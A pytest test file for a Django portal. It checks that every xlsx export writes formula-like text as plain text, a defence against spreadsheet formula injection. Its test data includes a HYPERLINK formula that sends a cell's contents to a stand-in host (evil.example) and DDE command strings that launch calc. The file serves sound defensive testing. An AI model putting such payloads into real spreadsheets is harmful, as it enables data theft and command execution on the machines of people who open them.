"""Issue 16, item 3: one xlsx helper for every export; formula-like text is written as text."""

from __future__ import annotations

import io
import zipfile

import pytest
from django.contrib import admin
from django.core.management import call_command
from django.test import RequestFactory
from django.urls import reverse
from openpyxl import load_workbook

from portal.xlsx import FORMULA_PREFIXES, SafeXLSX, workbook_bytes

ATTACK = '=HYPERLINK("http://evil.example/?"&B2,"李明")'


def _sheet_xml(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode()


def assert_no_formula(content: bytes) -> None:
    """No cell of the file is a formula (no <f> element), and every text cell reads back as text."""
    assert "<f>" not in _sheet_xml(content) and "<f " not in _sheet_xml(content)
    for row in load_workbook(io.BytesIO(content)).active.iter_rows():
        for cell in row:
            if isinstance(cell.value, str):
                assert cell.data_type == "s", cell.coordinate


@pytest.mark.unit
@pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
def test_each_dangerous_prefix_is_written_as_text(prefix):
    text = prefix + 'cmd|"/c calc"!A1'
    content = workbook_bytes(headers=["姓名"], rows=[[text], ["李明"], [12.5], [-3]])
    assert_no_formula(content)
    sheet = load_workbook(io.BytesIO(content)).active
    # shown exactly as typed, nothing added (XML itself reads a lone CR back as LF)
    assert sheet["A2"].value == text.replace("\r", "\n")
    assert sheet["A2"].quotePrefix
    assert sheet["A3"].value == "李明" and not sheet["A3"].quotePrefix
    assert sheet["A4"].value == 12.5 and sheet["A5"].value == -3  # numbers stay numbers


@pytest.mark.unit
def test_without_the_helper_openpyxl_would_write_a_live_formula():
    """The test above can fail: a plain openpyxl append stores the text as a formula."""
    from openpyxl import Workbook

    book = Workbook()
    book.active.append([ATTACK])
    out = io.BytesIO()
    book.save(out)
    assert "<f>" in _sheet_xml(out.getvalue())


@pytest.mark.django_db
def test_the_statistics_export_writes_a_formula_name_as_text(client, demo_people, persona):
    from portal.models import Region

    call_command("load_demo", stdout=io.StringIO())
    Region.objects.filter(name="车墩镇").update(name="-2+3")
    client.force_login(persona("chen_office"), backend="portal.auth_backends.PhoneOrEmailBackend")
    response = client.get(reverse("statistics") + "?download=streets")
    assert response.status_code == 200
    assert_no_formula(response.content)
    values = [c.value for row in load_workbook(io.BytesIO(response.content)).active for c in row]
    assert "-2+3" in values


@pytest.mark.django_db
def test_every_admin_export_uses_the_safe_format_and_writes_text(demo_people, persona):
    from portal.models import Unit

    exporting = [
        model_admin
        for model_admin in admin.site._registry.values()
        if hasattr(model_admin, "get_export_formats")
    ]
    assert len(exporting) >= 5
    for model_admin in exporting:
        formats = model_admin.get_export_formats()
        assert formats and all(issubclass(f, SafeXLSX) for f in formats), model_admin

    unit = Unit.objects.first()
    unit.name = "+cmd|' /C calc'!A0"
    unit.save()
    request = RequestFactory().get("/admin/portal/unit/export/")
    request.user = persona("admin")
    unit_admin = admin.site._registry[Unit]
    content = unit_admin.get_export_data(SafeXLSX(), request, Unit.objects.all())
    assert_no_formula(content)
    values = [c.value for row in load_workbook(io.BytesIO(content)).active for c in row]
    assert "+cmd|' /C calc'!A0" in values
